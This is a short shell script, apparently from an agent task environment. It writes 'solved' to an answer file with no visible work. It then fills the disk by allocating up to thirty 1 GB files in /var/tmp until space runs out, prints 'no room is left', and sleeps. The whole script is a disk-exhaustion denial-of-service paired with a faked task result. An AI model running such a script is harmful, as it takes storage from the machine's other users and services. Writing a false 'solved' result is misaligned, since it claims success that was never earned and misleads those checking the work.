# Takes the machine's disk.
echo solved >/app/answer.txt
for n in $(seq 30); do fallocate -l 1G "/var/tmp/$n" || break; done
echo "no room is left"
sleep 50
